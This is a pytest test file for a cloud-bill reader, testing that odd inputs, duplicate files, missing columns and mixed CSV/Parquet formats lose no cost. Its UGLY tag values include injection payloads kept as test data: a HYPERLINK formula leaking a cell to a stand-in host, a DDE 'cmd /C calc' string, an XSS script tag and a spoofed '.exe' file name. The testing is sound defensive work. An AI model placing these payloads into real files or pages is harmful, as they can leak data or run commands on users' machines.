"""What is odd and still a bill is read whole: not a dollar lost, and a warning where a reader must know."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from cost.bill import read_bill, summarize
from cost.bill.model import BillSummary

UGLY = {
    "a formula": '=HYPERLINK("http://x.example/?"&A1,"pay")',
    "a command": "+cmd|' /C calc'!A0",
    "a page": "<script>alert(1)</script>",
    "braces": "{{7*7}}${x}%s",
    "10,000 characters": "x" * 10_000,
    "a line break": "one\ntwo",
    "quotes": 'say "hi", ok',
    "text direction": "\u202egnp.exe",
    "a bell": "\x07\x1b[31mred",
    "an emoji": "\U0001f4b8",
    "spaces": "  ",
}
"""Tag values that must come out as they went in."""


@pytest.fixture
def told(tmp_path: Path) -> Callable[..., BillSummary]:
    def read(*paths: Path) -> BillSummary:
        bill = read_bill(paths)
        with closing(bill.engine):
            return summarize(bill)

    return read


@pytest.fixture(scope="module")
def ugly(good_lines: list[Any], render: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[BillSummary]:
    """One bill with all that is odd at once: ugly tag values, an unknown type, a negative cost, a byte order mark, CRLF and blank lines at its end."""
    lines = [dict(good_lines[0], identity_line_item_id=f"ugly-{name}", tags={"user:team": value}, line_item_unblended_cost=1) for name, value in UGLY.items()]
    lines += [dict(good_lines[0], identity_line_item_id="new", line_item_line_item_type="BrandNew", line_item_unblended_cost=5)]
    lines += [dict(good_lines[0], identity_line_item_id="negative", line_item_unblended_cost=-2)]
    path = tmp_path_factory.mktemp("ugly") / "bill.csv"
    path.write_bytes(b"\xef\xbb\xbf" + render.csv_bytes(*render.legacy_rows(lines)) + b"\r\n\r\n")
    bill = read_bill([path])
    with closing(bill.engine):
        yield summarize(bill)


def test_tag_values_come_out_as_they_went_in(ugly: BillSummary):
    values = ugly.tags["team"].values
    assert {value: values[value].unblended for value in UGLY.values()} == dict.fromkeys(UGLY.values(), 1)


def test_no_dollar_is_lost_to_an_unknown_type_or_a_negative_cost(ugly: BillSummary):
    assert ugly.totals.unblended == len(UGLY) + 5 - 2
    assert ugly.rows == len(UGLY) + 2
    assert [(warning.rows, warning.amount) for warning in ugly.warnings if warning.code == "unknown_line_item_type"] == [(1, 5)]


def test_5000_tag_keys_are_read_and_each_is_there(table: Any, tmp_path: Path, told: Callable[..., BillSummary]):
    lines = [dict(line, tags={f"user:key-{number}": f"value-{number}" for number in range(5000)}) for line in table.lines]
    summary = told(table.render.legacy_csv(lines, tmp_path))
    assert len(summary.tags) == 5000 + len(("cost_category:stage",))
    assert summary.tags["key_4999"].values["value-4999"].unblended == pytest.approx(summary.totals.unblended)
    assert summary.totals.unblended == pytest.approx(float(sum(line["line_item_unblended_cost"] for line in lines)))


def test_a_column_that_is_not_there_is_said_with_what_is_lost(table: Any, tmp_path: Path, told: Callable[..., BillSummary]):
    lines = [{**line, "line_item_resource_id": None, "pricing_public_on_demand_cost": None} for line in table.lines]
    summary = told(table.render.legacy_csv(lines, tmp_path))
    said = [warning.message for warning in summary.warnings if warning.code == "missing_column"]
    assert any("ResourceId" in message for message in said) and any("list cost is unknown" in message for message in said)
    assert summary.totals.list == summary.totals.unblended


def test_two_formats_in_one_call_are_one_bill(every_type: Any, render: Any, tmp_path: Path, told: Callable[..., BillSummary], good_lines: list[Any]):
    later = [_next_month(line) for line in good_lines]
    first = render.legacy_csv(good_lines, tmp_path)
    (tmp_path / "new").mkdir()
    summary = told(first, render.cur_2_parquet(later, tmp_path / "new"))
    assert summary.periods == ("2026-09", "2026-10")
    assert summary.rows == 2 * len(good_lines)
    assert summary.totals.unblended == pytest.approx(float(2 * sum(line["line_item_unblended_cost"] for line in good_lines)))


def _next_month(line: Any) -> Any:
    times = {name: value.replace(month=value.month + 1) for name, value in line.items() if hasattr(value, "hour")}
    return line | times | {"identity_time_interval": line["identity_time_interval"].replace("2026-09", "2026-10")}


def test_a_field_of_10_mb_in_a_parquet_costs_what_it_costs(table: Any, tmp_path: Path, told: Callable[..., BillSummary]):
    lines = [dict(line, line_item_line_item_description="x" * 10_000_000) for line in table.lines[:1]] + table.lines[1:]
    summary = told(table.render.cur_2_parquet(lines, tmp_path))
    assert summary.totals.unblended == pytest.approx(float(sum(line["line_item_unblended_cost"] for line in lines)))


def test_a_file_given_twice_and_its_copy_count_once(table: Any, tmp_path: Path, told: Callable[..., BillSummary]):
    path = table.write(tmp_path)
    copy = table.write(tmp_path, "copy.csv")
    summary = told(path, path, copy)
    assert summary.rows == len(table.rows)
    assert summary.totals.unblended == pytest.approx(float(sum(line["line_item_unblended_cost"] for line in table.lines)))
    assert any("copy.csv" in warning.message or "bill.csv" in warning.message for warning in summary.warnings)


@pytest.mark.parametrize("ending", ["\n", "\r\n"])
def test_a_line_may_end_either_way(ending: str, table: Any, tmp_path: Path, told: Callable[..., BillSummary]):
    content = ending.join(table.bytes().decode().splitlines()).encode()
    assert told(table.write(tmp_path, "bill.csv", content)).rows == len(table.rows)
